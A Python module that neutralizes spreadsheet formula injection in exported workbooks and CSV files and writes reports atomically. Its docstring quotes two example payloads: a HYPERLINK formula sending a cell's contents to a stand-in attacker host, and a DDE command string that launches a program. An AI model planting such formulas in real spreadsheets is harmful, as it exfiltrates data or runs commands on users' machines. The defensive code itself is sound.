"""Making user text safe for a spreadsheet cell, and writing report files atomically.

A note such as `=HYPERLINK("http://evil.example?"&A1, "click")` or `+cmd|' /C calc'!A0` is
harmless in our database but becomes a live formula the moment Excel or LibreOffice opens a
CSV file or a user re-enters the cell (CSV or formula injection, OWASP). Every writer of a
spreadsheet-shaped file (the Excel workbook and the CSV files) passes each piece of text through
`neutralize`, so there is one rule to review. It follows the OWASP guidance: a cell whose text
starts with `=`, `+`, `-`, `@`, a tab or a carriage return (also after leading whitespace, and
the full-width forms some input methods produce) gets a leading apostrophe, which spreadsheets
read as "this is text". Numbers, dates and booleans are not text and stay as they are, so
sums and filters still work.

`restore` undoes `neutralize` exactly, so text that goes out in a workbook and comes back from a
workshop is stored as it was, not with an apostrophe more on each round trip.
"""

from __future__ import annotations

import os
import re
import secrets
from pathlib import Path
from typing import TypeVar

# Characters that make a spreadsheet treat a cell as a formula (OWASP CSV injection), with the
# full-width forms of the four symbols, which some spreadsheets and input methods also accept.
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
NEUTRALIZER = "'"

# XML 1.0 cannot carry these, so openpyxl refuses them (or writes a file Excel must repair).
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
# The most characters one Excel cell holds.
EXCEL_CELL_LIMIT = 32767

_BINARY = getattr(os, "O_BINARY", 0)  # Windows: no newline translation

T = TypeVar("T")


def starts_like_formula(text: str) -> bool:
    """Would a spreadsheet read this text as a formula (possibly after leading whitespace)?"""
    if not text:
        return False
    if text[0] in FORMULA_STARTS:
        return True
    stripped = text.lstrip()
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def neutralize(value: T) -> T | str:
    """The value as a cell must hold it: text that would run as a formula gets an apostrophe.

    Non-text values (numbers, dates, booleans, None) are returned unchanged. Text that already
    starts with apostrophes before a formula character gets one more, so `restore` can always
    tell our apostrophe from the user's own.
    """
    if not isinstance(value, str):
        return value
    if starts_like_formula(value.lstrip(NEUTRALIZER)):
        return NEUTRALIZER + value
    return value


def restore(text: str) -> str:
    """The text a user wrote, from a cell written by `neutralize` (its exact inverse)."""
    if text.startswith(NEUTRALIZER) and starts_like_formula(text.lstrip(NEUTRALIZER)):
        return text[len(NEUTRALIZER) :]
    return text


def xlsx_text(text: str) -> str:
    """User text as an Excel cell can hold it: neutralized, without the control characters
    XML cannot carry (a pasted form feed would otherwise break the whole export), and cut to
    the 32,767 characters of a cell."""
    return str(neutralize(_NOT_IN_XML.sub("", text)))[:EXCEL_CELL_LIMIT]


def write_atomically(out: Path, content: bytes) -> Path:
    """Write `content` to `out` through a temporary file in the same folder and a rename.

    A reader (or a crash half-way) sees the old file or the new one, never half a report; the
    temporary file is removed when anything fails.
    """
    out = Path(out)
    temporary = out.with_name(f".{out.name}.{secrets.token_hex(6)}.tmp")
    # os.open with O_EXCL, not mkstemp: the file gets the usual permissions (0o666 less the
    # umask), as a report written directly would, instead of mkstemp's owner-only 0o600.
    descriptor = os.open(temporary, os.O_WRONLY | os.O_CREAT | os.O_EXCL | _BINARY, 0o666)
    try:
        with os.fdopen(descriptor, "wb") as handle:
            handle.write(content)
            handle.flush()
            os.fsync(handle.fileno())
        os.replace(temporary, out)
    except BaseException:
        Path(temporary).unlink(missing_ok=True)
        raise
    return out
